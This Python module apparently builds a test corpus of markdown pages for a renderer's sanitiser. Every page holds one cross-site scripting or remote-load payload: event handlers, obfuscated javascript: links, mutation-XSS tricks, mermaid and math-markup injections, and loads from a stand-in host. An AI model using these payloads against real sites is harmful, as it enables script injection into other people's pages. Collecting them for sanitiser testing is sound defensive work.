# ruff: noqa: E501 (payloads stand as they are)
"""Payloads that try to run a script, or to load something from elsewhere, each as the files of a page."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

RUN = "alert(1)"
FAR = "https://far.example"

TAGS = ("img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "iframe", "object data=x",
        "marquee", "select autofocus", "textarea autofocus", "a href=# autofocus tabindex=1", "math", "style")  # fmt: skip
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onpointerenter", "onbegin")
SCHEMES = ("javascript:", "JaVaScRiPt:", "javascript&colon;", "java&#9;script:", "java&#10;script:", "&#106;avascript:", "&#x6A;avascript:",
           "\x01javascript:", " javascript:", "javascript&#58;", "vbscript:", "data:text/html,<script>", "data:text/html;base64,",
           "blob:", "file:///", "jar:", "view-source:javascript:", "javascript://%0a", "\u2028javascript:", "java\tscript:")  # fmt: skip
LINKS = ('<a href="{0}alert(1)">x</a>', "[x]({0}alert(1))", "[x](<{0}alert(1)>)", "[x][r]\n\n[r]: {0}alert(1)", "![x]({0}alert(1))",
         "<{0}alert(1)>", "[[{0}alert(1)]]", '<form action="{0}alert(1)"><button autofocus>x</button></form>')  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", "<ScRiPt >alert(1)</sCrIpT>", "<script/src=data:,alert(1)></script>", "<script>alert(1)//",
    f"<script src={FAR}/x.js></script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg/onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>', "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></foreignObject></svg>", "<svg><set attributeName=onload to=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>", "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>", "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", f"<iframe src={FAR}></iframe>",
    "<embed src='data:text/html,<script>alert(1)</script>'>", "<object data='data:text/html,<script>parent.alert(1)</script>'></object>",
    f"<base href={FAR}/><a href=x>x</a>", f"<meta http-equiv=refresh content='0;url={FAR}'>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    f"<link rel=stylesheet href={FAR}/x.css>", f"<link rel=preload as=image href={FAR}/x>", f"<link rel=dns-prefetch href={FAR}>",
    f"<style>@import '{FAR}/x.css'</style>", f"<style>body{{background:url({FAR}/x)}}</style>", f"<p style='background:url({FAR}/x)'>x</p>",
    f"<img src={FAR}/x.png>", "<img src=//far.example/x.png>", f"<img srcset='{FAR}/x 1x'>", f"<video poster={FAR}/x></video>", f"<audio src={FAR}/x></audio>",
    f"<picture><source srcset={FAR}/x><img></picture>", f"<input type=image src={FAR}/x>", f"<table background={FAR}/x><td background={FAR}/y>x</table>",
    f"<a href=# ping={FAR}/x>x</a>", f"<object data={FAR}/x></object>", f"![x]({FAR}/x.png)", f"![[{FAR}/x.png]]", "![x](//far.example/x.png)",
    "<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x>", "<div style='width:expression(alert(1))'>x</div>",
    "<isindex action=javascript:alert(1) type=submit>", "<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</dialog>",
    "<script type=module>alert(1)</script>", "<script>/*\n\n*/alert(1)\n\n</script>", "<!--><img src=x onerror=alert(1)>-->", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?php <script>alert(1)</script> ?>", "<textarea></textarea><img src=x onerror=alert(1)>", "<title></title><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext><img src=x onerror=alert(1)>", "</article></main></body><script>alert(1)</script>",
    "<img src='x' onerror\n=\nalert(1)>", "<img/src/onerror=alert(1)>", "<img src=x onerror=&#97;lert(1)>", "<img src=x:x onerror=alert`1`>", "<img \x00src=x onerror=alert(1)>",
)  # fmt: skip
MARKDOWN = (
    '![x" onerror="alert(1)](x.png)', "![x](x.png \"y' onerror='alert(1)\")", '[x](y "z\\" onmouseover=\\"alert(1)")', '[[x" onmouseover="alert(1)]]',
    "[[x|<img src=x onerror=alert(1)>]]", "![[x|<img src=x onerror=alert(1)>]]", "![[<img src=x onerror=alert(1)>.png]]", "[[#<img src=x onerror=alert(1)>]]",
    '```"><script>alert(1)</script>\nx\n```', "```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```", "~~~<img src=x onerror=alert(1)>\nx\n~~~",
    "`<img src=x onerror=alert(1)>`", "# <img src=x onerror=alert(1)>", '# x {#a" onmouseover="alert(1)}', "> [!note] <img src=x onerror=alert(1)>\n> x",
    "> [!<img src=x onerror=alert(1)>] x\n> x", '!!! note "<img src=x onerror=alert(1)>"\n    x', ":::note <img src=x onerror=alert(1)>\nx\n:::",
    "|<img src=x onerror=alert(1)>|\n|-|\n|<svg onload=alert(1)>|", "x[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: <svg onload=alert(1)>",
    'x[^a"b]\n\n[^a"b]: y', "- [x] <img src=x onerror=alert(1)>", "#tag<img/src=x/onerror=alert(1)>", "==<img src=x onerror=alert(1)>==", "%%<img src=x onerror=alert(1)>%%",
    'https://e.example/"onmouseover="alert(1)', '<https://e.example/"onmouseover=alert(1)>', "https://e.example/<script>alert(1)</script>", "x ^<img src=x onerror=alert(1)>",
    "$\\href{javascript:alert(1)}{x}$", "$\\url{javascript:alert(1)}$", "$\\htmlData{x=y}{<img src=x onerror=alert(1)>}$", "$\\includegraphics{https://far.example/x.png}$",
    "$$\\html@mathml{<img src=x onerror=alert(1)>}{x}$$", "$</code><img src=x onerror=alert(1)>$", "$\\def\\x{\\x\\x}\\x$", "$\\style{background:url(https://far.example)}{x}$",
    '```mermaid\ngraph TD\nA["<img src=x onerror=parent.alert(1)>"]-->B\n```', '```mermaid\ngraph TD\nA-->B\nclick A "javascript:parent.alert(1)"\n```',
    "```mermaid\ngraph TD\nA-->B\nclick A call alert(1)\n```", "```mermaid\n%%{init: {'securityLevel': 'loose', 'htmlLabels': true}}%%\ngraph TD\nA[<img src=x onerror=parent.alert(1)>]\n```",
    "```mermaid\n%%{init: {'themeCSS': '*{background:url(https://far.example/x)}'}}%%\ngraph TD\nA-->B\n```", "```mermaid\n</code></pre><script>alert(1)</script>\n```",
    "```mermaid\nsequenceDiagram\nA->>B: <script>parent.alert(1)</script>\n```", "```mermaid\ngraph TD\nA[\"<iframe src='https://far.example'></iframe>\"]\n```",
)  # fmt: skip
FRONT = ("title", "tags", "aliases", "type", "source", "lang", "id", "summary", "date", "links", "custom")
VALUES = (
    '"<img src=x onerror=alert(1)>"',
    "'\"><script>alert(1)</script>'",
    '"javascript:alert(1)"',
    '"[[x|<img src=x onerror=alert(1)>]]"',
)
NAMES = ("<img src=x onerror=alert(1)>", 'a" onmouseover="alert(1)', "a'onmouseover='alert(1)", "javascript:alert(1)", "{{7*7}}{% raw %}", "&lt;script&gt;alert(1)",
         "<svg onload=alert(1)>", "`alert(1)`")  # fmt: skip
WRAPPERS = ("{0}", "- {0}", "> {0}", "text **{0}** text", "<div>\n\n{0}\n\n</div>")


def pages() -> Iterator[tuple[str, str]]:
    """Path and text of each page; every payload stands in one."""
    bodies = [f"<{tag} {event}=alert(1)>" for tag, event in product(TAGS, EVENTS)]
    bodies += [link.format(scheme) for scheme, link in product(SCHEMES, LINKS)]
    bodies += [*MARKUP, *MARKDOWN]
    for number, body in enumerate(bodies):
        wrapped = body if "\n" in body else WRAPPERS[number % len(WRAPPERS)].format(body)
        yield f"p{number:03}.md", f"# Page {number}\n\n{wrapped}\n\nafter\n"
    for number, (key, value) in enumerate(product(FRONT, VALUES)):
        yield f"f{number:03}.md", f"---\n{key}: {value}\n---\nText of front matter {number}.\n"
    for number, name in enumerate(NAMES):
        yield f"names/{name.replace('/', '')}.md", f"# Name {number}\n"
        yield f"names/folder {name.replace('/', '')}/x.md", f"# In folder {number}\n\n[[../{name}]]\n"
